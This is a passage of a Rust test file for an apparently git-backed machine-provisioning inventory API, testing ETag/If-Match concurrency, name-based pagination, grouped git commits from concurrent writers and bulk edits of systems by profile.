        let mut req = Request::builder()
            .method(method)
            .uri(uri)
            .header("authorization", format!("Bearer {}", self.token))
            .header("content-type", "application/json");
        if let Some(t) = if_match {
            req = req.header("if-match", t);
        }
        let req = req
            .body(body.map_or_else(Body::empty, |b| Body::from(b.to_string())))
            .unwrap();
        let resp = self.app.clone().oneshot(req).await.unwrap();
        let status = resp.status();
        let tag = resp
            .headers()
            .get("etag")
            .map(|v| v.to_str().unwrap().to_owned());
        let bytes = resp.into_body().collect().await.unwrap().to_bytes();
        let v = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
        (status, tag, v)
    }
}

#[tokio::test]
async fn a_stale_if_match_is_refused_and_the_other_operators_edit_survives() {
    let a = api();
    let uri = "/api/v1/systems/web1";
    let (s, tag, v) = a.call_if_match("GET", uri, None, None).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let t0 = tag.expect("GET of an object has an ETag");
    assert!(t0.starts_with("\"sha256:") && t0.ends_with('"'), "{t0}");
    // The same object read twice has the same tag.
    assert_eq!(
        a.call_if_match("GET", uri, None, None).await.1,
        Some(t0.clone())
    );

    // Operator A changes it with the tag she read: accepted, new tag.
    let mut mine = v.clone();
    mine["comment"] = json!("A was here");
    let (s, t1, body) = a.call_if_match("PUT", uri, Some(mine), Some(&t0)).await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let t1 = t1.expect("PUT answers the new ETag");
    assert_ne!(t1, t0);
    assert_eq!(
        a.call_if_match("GET", uri, None, None).await.1,
        Some(t1.clone())
    );

    // Operator B still holds the first tag: PUT, PATCH and DELETE are 412
    // with the current tag, and A's edit stays.
    let mut theirs = v.clone();
    theirs["comment"] = json!("B overwrites");
    for (method, body) in [
        ("PUT", Some(theirs)),
        ("PATCH", Some(json!({"comment": "B patches"}))),
        ("DELETE", None),
    ] {
        let (s, tag, e) = a.call_if_match(method, uri, body, Some(&t0)).await;
        assert_eq!(s, StatusCode::PRECONDITION_FAILED, "{method}: {e}");
        assert_eq!(e["code"], "precondition_failed", "{method}: {e}");
        assert!(
            e["message"].as_str().unwrap().contains(&t1),
            "{method}: {e}"
        );
        assert_eq!(tag.as_deref(), Some(t1.as_str()), "{method}");
    }
    let (_, _, now) = a.call_if_match("GET", uri, None, None).await;
    assert_eq!(now["comment"], "A was here");

    // A weak tag never matches; `*` and a list holding the tag do; no
    // header keeps the old last-write-wins.
    let weak = format!("W/{t1}");
    let (s, _, _) = a
        .call_if_match("PATCH", uri, Some(json!({"comment": "w"})), Some(&weak))
        .await;
    assert_eq!(s, StatusCode::PRECONDITION_FAILED);
    let list = format!("\"sha256:00\", {t1}");
    let (s, t2, e) = a
        .call_if_match(
            "PATCH",
            uri,
            Some(json!({"comment": "listed"})),
            Some(&list),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    let (s, _, e) = a
        .call_if_match("PATCH", uri, Some(json!({"comment": "any"})), Some("*"))
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_ne!(t2, None);
    let (s, _, e) = a
        .call_if_match("PATCH", uri, Some(json!({"comment": "plain"})), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    // If-Match on an object that does not exist is 412 too.
    let (s, _, e) = a
        .call_if_match("DELETE", "/api/v1/systems/nope", None, Some("*"))
        .await;
    assert_eq!(s, StatusCode::PRECONDITION_FAILED, "{e}");
}

#[tokio::test]
async fn inventory_lists_page_by_name_and_bad_limits_are_400_naming_the_parameter() {
    let a = api();
    for n in ["web3", "web2"] {
        let mut s = a
            .call_if_match("GET", "/api/v1/systems/web1", None, None)
            .await
            .2;
        s["name"] = json!(n);
        s["interfaces"] = json!([]);
        s["hostname"] = json!(format!("{n}.lab"));
        let (st, _, e) = a
            .call_if_match("POST", "/api/v1/systems", Some(s), None)
            .await;
        assert_eq!(st, StatusCode::CREATED, "{e}");
    }
    let (s, _, p) = a
        .call_if_match("GET", "/api/v1/systems?limit=2", None, None)
        .await;
    assert_eq!(s, StatusCode::OK, "{p}");
    let names = |p: &Value| -> Vec<String> {
        p["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["name"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(names(&p), ["web1", "web2"]);
    assert_eq!(p["next"], "web2");
    let (_, _, p) = a
        .call_if_match("GET", "/api/v1/systems?limit=2&after=web2", None, None)
        .await;
    assert_eq!(
        (names(&p), &p["next"]),
        (vec!["web3".to_owned()], &Value::Null)
    );
    for (q, needle) in [
        ("limit=abc", "limit=abc"),
        ("limit=0", "limit=0"),
        ("limit=10001", "limit=10001"),
        ("sort=name", "sort"),
    ] {
        let (s, _, e) = a
            .call_if_match("GET", &format!("/api/v1/status?{q}"), None, None)
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{q}: {e}");
        assert_eq!(e["code"], "invalid_query", "{q}: {e}");
        assert!(e["message"].as_str().unwrap().contains(needle), "{q}: {e}");
    }
    // The OpenAPI document describes the page and its parameters.
    let (_, _, doc) = a
        .call_if_match("GET", "/api/v1/openapi.json", None, None)
        .await;
    let get = &doc["paths"]["/api/v1/systems"]["get"];
    let schema = &get["responses"]["200"]["content"]["application/json"]["schema"];
    assert!(schema["properties"]["items"].is_object(), "{schema}");
    assert!(schema["properties"]["next"].is_object(), "{schema}");
    assert!(get["parameters"].to_string().contains("\"after\""), "{get}");
}

// ---- Group commit and bulk edit ----

#[test]
fn concurrent_writers_share_commits_and_all_writes_survive_a_reload() {
    use super::group::Committer;
    let dir = tempfile::tempdir().unwrap();
    let lock = Arc::new(RwLock::new(sample(dir.path())));
    let before: usize = git(dir.path(), &["rev-list", "--count", "HEAD"])
        .trim()
        .parse()
        .unwrap();
    let committer = Arc::new(Committer::new());
    let threads: Vec<_> = (0..6usize)
        .map(|t| {
            let (lock, committer) = (lock.clone(), committer.clone());
            std::thread::spawn(move || {
                for k in 0..20usize {
                    let i = t * 100 + k;
                    let obj = system(
                        &format!("g{i:03}"),
                        "web",
                        &format!("02:00:00:00:{:02x}:{:02x}", i >> 8, i & 0xff),
                        &format!("10.9.{}.{}", i >> 8, i & 0xff),
                    );
                    let who = Author::new(&format!("w{t}"));
                    committer
                        .run(&lock, move |inv| inv.create(obj, &who))
                        .unwrap();
                }
            })
        })
        .collect();
    for t in threads {
        t.join().unwrap();
    }
    // A refused write in a group gets its own error and changes nothing.
    let dup = system("g000", "web", "02:00:00:00:ff:ff", "10.9.255.255");
    let err = committer
        .run(&lock, move |inv| inv.create(dup, &who()))
        .unwrap_err();
    assert_eq!(err.code(), "already_exists");
    let after: usize = git(dir.path(), &["rev-list", "--count", "HEAD"])
        .trim()
        .parse()
        .unwrap();
    assert!(
        after - before <= 120,
        "{} commits for 120 writes",
        after - before
    );
    git(dir.path(), &["fsck", "--strict", "--no-dangling"]);
    assert_eq!(git(dir.path(), &["status", "--porcelain"]), "");
    let inv = Inventory::open_volatile(dir.path()).unwrap();
    assert_eq!(inv.count(Kind::System), 121);
    // A shared commit names every change and its author.
    if after - before < 120 {
        let log = git(dir.path(), &["log", "--format=%B"]);
        assert!(log.contains("Group commit of"), "{log}");
        // (g000 itself may have had a commit of its own.)
        assert!(log.contains(") (by w") || log.contains(" (by w"), "{log}");
    }
}

#[tokio::test]
async fn bulk_edit_changes_every_system_of_a_profile_in_one_commit() {
    let a = api();
    for i in 2..40 {
        let (st, body) = a
            .call(
                "POST",
                "/api/v1/systems",
                Some(json!({"name": format!("web{i}"), "profile": "web",
                    "interfaces": [{"mac": format!("aa:bb:cc:00:01:{i:02x}")}]})),
                true,
            )
            .await;
        assert_eq!(st, StatusCode::CREATED, "{body}");
    }
    let (st, body) = a
        .call(
            "POST",
            "/api/v1/systems",
            Some(json!({"name": "db1", "profile": "base", "interfaces": [{"mac": "aa:bb:cc:00:02:01"}]})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{body}");
    let dir = a.state.inventory.read().unwrap().repo().root().to_owned();
    let head = |d: &Path| git(d, &["rev-parse", "HEAD"]);
    let before = head(&dir);

    // No filter, unknown filter, a token-less caller: refused, nothing read.
    let (st, body) = a
        .call(
            "PATCH",
            "/api/v1/systems",
            Some(json!({"kernel_options": "x"})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.contains("all=true"), "{body}");
    let (st, body) = a
        .call("PATCH", "/api/v1/systems?colour=red", Some(json!({})), true)
        .await;
    assert_eq!(st, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.contains("colour"), "{body}");
    let (st, _) = a
        .call(
            "PATCH",
            "/api/v1/systems?profile=web",
            Some(json!({"kernel_options": "x"})),
            false,
        )
        .await;
    assert_eq!(st, StatusCode::UNAUTHORIZED);
    let (st, body) = a
        .call(
            "PATCH",
            "/api/v1/profiles?profile=web",
            Some(json!({})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::BAD_REQUEST, "{body}");
    let (st, body) = a
        .call(
            "PATCH",
            "/api/v1/systems?profile=nope",
            Some(json!({"kernel_options": "x"})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::NOT_FOUND, "{body}");
    // One IP for all of them would collide: refused whole, naming both.
    let (st, body) = a
        .call(
            "PATCH",
            "/api/v1/systems?profile=web",
            Some(json!({"interfaces": [{"mac": "aa:bb:cc:00:09:09"}]})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::CONFLICT, "{body}");
    assert!(body.contains("aa:bb:cc:00:09:09"), "{body}");
    assert_eq!(head(&dir), before, "a refused bulk edit committed");

    let (st, body) = a
        .call(
            "PATCH",
            "/api/v1/systems?profile=web",
            Some(json!({"kernel_options": "console=ttyS0 bulk=1"})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v, json!({"matched": 39, "changed": 39}));
    // One commit, every boot script of the profile has it, db1 not.
    assert_eq!(
        git(
            &dir,
            &["rev-list", "--count", &format!("{}..HEAD", before.trim())]
        )
        .trim(),
        "1"
    );
    for i in 2..40 {
        let (st, script) = a
            .call(
                "GET",
                &format!("/api/v1/boot/aa:bb:cc:00:01:{i:02x}"),
                None,
                false,
            )
            .await;
        assert_eq!(st, StatusCode::OK);
        assert!(script.contains("bulk=1"), "{script}");
    }
    let (_, script) = a
        .call("GET", "/api/v1/boot/aa:bb:cc:00:02:01", None, false)
        .await;
    assert!(!script.contains("bulk=1"), "{script}");
    git(&dir, &["fsck", "--strict", "--no-dangling"]);
    assert_eq!(git(&dir, &["status", "--porcelain"]), "");
    // The same edit again changes nothing and makes no commit.
    let mid = head(&dir);
    let (st, body) = a
        .call(
            "PATCH",
            "/api/v1/systems?prefix=web",
            Some(json!({"kernel_options": "console=ttyS0 bulk=1"})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    assert!(body.contains("\"changed\":0"), "{body}");
    assert_eq!(head(&dir), mid);
    // A reload from disk (the commit is the truth) sees the edit.
    let inv = Inventory::open_volatile(&dir).unwrap();
    assert!(inv
        .system("web7")
        .unwrap()
        .kernel_options
        .contains("bulk=1"));
}
